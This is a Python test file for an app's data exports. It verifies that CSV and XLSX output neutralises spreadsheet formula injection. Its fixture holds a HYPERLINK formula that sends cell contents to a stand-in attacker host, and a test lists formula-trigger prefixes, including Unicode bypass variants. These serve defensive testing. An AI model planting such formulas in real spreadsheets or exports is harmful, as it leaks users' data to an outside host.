"""Exports: the columns of the contract in three formats, whole files, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree

import pytest

from app import exporting
from app.cli import main
from app.clock import fixed_clock
from app.exporting import FIELDS, export, neutral
from app.pipeline import make_tools
from app.processing import process
from app.progress import Silent
from app.settings import UnderstandSettings
from store import acts, articles, figures, petitions, stories, targets
from store.database import open_store
from store.errors import InputError, UsageError
from store.model import Article, Count
from tests.store.builders import ANA

DAY = datetime(2026, 5, 4, 9, tzinfo=UTC)
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
ARTICLE = Article(
    "a000000000001", "https://haul.example/1", EVIL,
    "About 1,600 drivers have signed a petition against the cab cameras, the union said on Monday.",
    outlet="@SUM(1+1)", domain="haul.example", published=DAY, published_basis="meta", canonical_url="https://haul.example/1",
)  # fmt: skip


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder with a small processed store as the configured one."""
    monkeypatch.chdir(tmp_path)
    with open_store("sqlite:///tallywire.db", migrate=True) as store:
        with store.begin() as conn:
            articles.save(conn, ARTICLE, now=DAY)
            later = DAY + timedelta(days=40)
            other = "Nurses returned 84 badges at the hospital, a spokeswoman said."
            second = Article("a000000000002", "https://ward.example/2", "Badges", other, published=later, outlet="Ward")
            articles.save(conn, replace(second, published_basis="meta"), now=later)
            told = {
                "title": EVIL,
                "url": "https://sign.example/1",
                "source": "=1+1",
                "first_seen": DAY,
                "last_seen": DAY,
            }
            petitions.save(conn, Count(1_623, "1,623", "text", "1,623 have signed", 2_500, **told))
        process(
            store,
            make_tools(UnderstandSettings(embedder="hash", tone_model="vader"), ()),
            timedelta(days=30),
            fixed_clock(later),
            Silent(),
        )
        with store.begin() as conn:
            read = figures.claims_of_article(conn, ARTICLE.id)[0]
            acts.add(conn, "accept", targets.of_claim(conn, read.id), ANA, later)
    yield tmp_path


def sheet(path: Path) -> list[list[tuple[str, str]]]:
    """The cells of a workbook's first sheet as (type, value), read from its XML; ``f`` is the type of a formula."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as book:
        strings = []
        if "xl/sharedStrings.xml" in book.namelist():
            for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("m:si", ns):
                strings.append("".join(t.text or "" for t in item.iter(f"{{{ns['m']}}}t")))
        root = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in root.iter(f"{{{ns['m']}}}row"):
        cells = []
        for cell in row.findall("m:c", ns):
            kind = "f" if cell.find("m:f", ns) is not None else cell.get("t", "n")
            inline = "".join(t.text or "" for t in cell.iter(f"{{{ns['m']}}}t"))
            value = cell.findtext("m:v", "", ns)
            cells.append((kind, strings[int(value)] if kind == "s" else inline or value))
        rows.append(cells)
    return rows


@pytest.mark.parametrize("what", [what for what in FIELDS if what != "voices"])
def test_every_export_has_its_columns_in_every_format(
    here: Path, what: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", what]) == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert lines
    assert all(tuple(line) == FIELDS[what] for line in lines)
    assert main(["export", what, "--format", "csv"]) == 0
    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert tuple(table[0]) == FIELDS[what]
    assert len(table) == len(lines) + 1
    assert main(["export", what, "--format", "xlsx", "--out", "out.xlsx"]) == 0
    assert capsys.readouterr().err == f"{len(lines)} {what} in out.xlsx\n"
    cells = sheet(Path("out.xlsx"))
    assert tuple(value for _, value in cells[0]) == FIELDS[what]
    assert len(cells) == len(lines) + 1


def test_the_contract_of_articles_is_kept() -> None:
    contract = {
        "url", "canonical_url", "outlet", "title", "text", "published", "published_basis", "fetched", "revision",
        "language", "duplicate_of",
    }  # fmt: skip
    assert contract | {"withdrawn", "published_certain"} <= set(FIELDS["articles"])


def test_formulas_are_text_in_csv_and_xlsx(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["export", "articles", "--format", "csv"])
    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["title"] == "'" + EVIL
    assert row["outlet"] == "'@SUM(1+1)"
    main(["export", "articles", "--format", "xlsx", "--out", "out.xlsx"])
    cells = [cell for line in sheet(Path("out.xlsx")) for cell in line]
    assert not [value for kind, value in cells if kind == "f"]
    assert any(value == "'" + EVIL for _, value in cells)
    main(["export", "articles"])
    assert json.loads(capsys.readouterr().out.splitlines()[0])["title"] == EVIL, "JSON is data, not a sheet"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", " =1", "\uff1d1", "\u00a0=1"])
def test_what_starts_a_formula_is_neutralised(text: str) -> None:
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("text", ["", "1,600", "Over 1,600", "a=b", "–5", "“quoted”"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    rows = [{"low": -5.5, "open": None, "sure": True, "names": ("a", "b"), "day": date(2026, 5, 4)}]
    fields = ("low", "open", "sure", "names", "day")
    export(rows, fields, "csv", tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_text() == "low,open,sure,names,day\n-5.5,,True,a; b,2026-05-04\n"
    export(rows, fields, "xlsx", tmp_path / "out.xlsx")
    assert ("n", "-5.5") in sheet(tmp_path / "out.xlsx")[1]


def test_a_text_longer_than_a_cell_is_cut_and_says_so(tmp_path: Path) -> None:
    export([{"text": "x" * 40_000}], ["text"], "xlsx", tmp_path / "out.xlsx")
    ((_, value),) = sheet(tmp_path / "out.xlsx")[1]
    assert len(value) == exporting.CELL_LIMIT
    assert value.endswith("(cut: longer than a cell)")


def test_more_rows_than_a_sheet_has_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "ROW_LIMIT", 3)
    with pytest.raises(UsageError, match="more than 2 rows do not fit a sheet; use --format csv"):
        export([{"a": 1}] * 3, ["a"], "xlsx", tmp_path / "out.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_file_is_whole_or_as_it_was(tmp_path: Path) -> None:
    def failing() -> Iterator[dict[str, int]]:
        yield {"a": 1}
        raise KeyboardInterrupt

    for form in ("jsonl", "csv", "xlsx"):
        out = tmp_path / f"out.{form}"
        out.write_text("as it was")
        with pytest.raises(KeyboardInterrupt):
            export(failing(), ["a"], form, out)  # type: ignore[arg-type]
        assert out.read_text() == "as it was"
    assert len(list(tmp_path.iterdir())) == 3


def test_since_and_story_limit_the_rows(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with open_store("sqlite:///tallywire.db") as store, store.read() as conn:
        first = articles.story_of(conn, ["a000000000001"])["a000000000001"]
        assert len(stories.all_ids(conn)) == 2
    main(["export", "articles", "--since", "2026-06-01"])
    (row,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert row["id"] == "a000000000002"
    main(["export", "claims", "--story", first])
    assert {json.loads(line)["article_id"] for line in capsys.readouterr().out.splitlines()} == {"a000000000001"}


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["export", "articles", "--format", "xlsx"], 2, "--format xlsx writes a file: name it with --out FILE.xlsx"),
        (["export", "articles", "--out", "."], 2, ".: is a folder; --out needs a file name"),
        (["export", "articles", "--out", "no/such/place.csv"], 2, "no/such/place.csv: cannot be written"),
        (["export", "claims", "--story", "s404"], 1, "there is no story 's404'; `export stories` lists their ids"),
    ],
)
def test_what_cannot_be_exported_is_one_line(
    here: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], code: int, said: str
) -> None:
    assert main(arguments) == code
    out, err = capsys.readouterr()
    assert (out, err.count("\n")) == ("", 1)
    assert said in err


def test_a_folder_as_out_is_refused_before_anything_is_read(tmp_path: Path) -> None:
    def never() -> Iterator[dict[str, int]]:
        raise AssertionError("read")
        yield {}

    with pytest.raises(InputError):
        export(never(), ["a"], "csv", tmp_path)
